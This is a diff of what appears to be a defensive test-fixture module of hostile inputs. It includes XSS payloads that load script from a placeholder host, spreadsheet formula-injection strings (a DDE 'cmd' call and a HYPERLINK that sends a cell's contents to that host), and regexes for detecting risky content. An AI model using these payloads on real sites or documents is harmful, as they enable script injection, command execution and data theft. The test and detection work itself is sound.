@@ -15,9 +15,9 @@ RAN = "__ran__"
 
 MARKUP = (
     f"<script>window.{RAN}=1;alert(1)</script>",
-    f"\"><img src=x onerror=\"window.{RAN}=1\"><img src='https://{HOST}/i.png'>",
+    f'"><img src=x onerror="window.{RAN}=1"><img src=\'https://{HOST}/i.png\'>',
     f"</script></style></title></textarea><script src=//{HOST}/s.js></script>",
-    f"<svg onload=window.{RAN}=1><image xlink:href='https://{HOST}/x.svg'/><a xlink:href='//{HOST}'>",
+    f"<svg onload=window.{RAN}=1><a xlink:href='//{HOST}'><image href='//{HOST}/x.svg'/>",
     f"' autofocus onfocus=window.{RAN}=1 x='",
     f"javascript:window.{RAN}=1//https://{HOST}/",
     f"data:text/html,<script>alert('{HOST}')</script>",
@@ -36,7 +36,7 @@ TYPESETTING = (
 )
 """For the typesetter of the PDF."""
 FORMULAS = (
-    f"=HYPERLINK(\"https://{HOST}/?\"&A1,\"click\")",
+    f'=HYPERLINK("https://{HOST}/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
@@ -49,7 +49,7 @@ FORMULAS = (
     "－1+1",
     "＠SUM(1+1)",
     "'=1+1",
-    ' =1+1',
+    " =1+1",
     '";=1+1;"',
     "a\r\n=1+1,b",
 )
@@ -67,7 +67,7 @@ CONTROLS = (
 SHAPES = (
     "Z" + "\u0301\u0489\u0336" * 60,
     "W" * 3000,
-    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f 漢字 مرحبا ሰላም \U0001f9ff",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f 漢字 مرحبا ሰላም",
     "\ufffe\uffff\U0010ffff \ue000",
 )
 """For layout: stacks of marks, words without an end, what fonts lack."""
@@ -88,9 +88,9 @@ def unsafe_in_a_terminal(shown: str) -> set[str]:
     }
 
 
-ACTIVE = re.compile(r"\s*[=+\-@＝＋－＠\t\r\n]")
+ACTIVE = re.compile(r"[=+\-@＝＋－＠\t\r\n]")
 NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")
 """What a program of tables may take for itself, and what begins with a sign and is a figure."""
 HIDING = re.compile("[\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
-LIVE = re.compile(r"(?i)(?:https?|ftp)://\w|\bwww\.\w|\b(?:javascript|data|mailto|file|vbscript):\S")
+LIVE = re.compile(r"(?i)(?:https?|ftp)://\w|\bwww\.\w|\b(?:javascript|data|mailto|file):\S")
 """An address that a program may turn into a link by itself."""
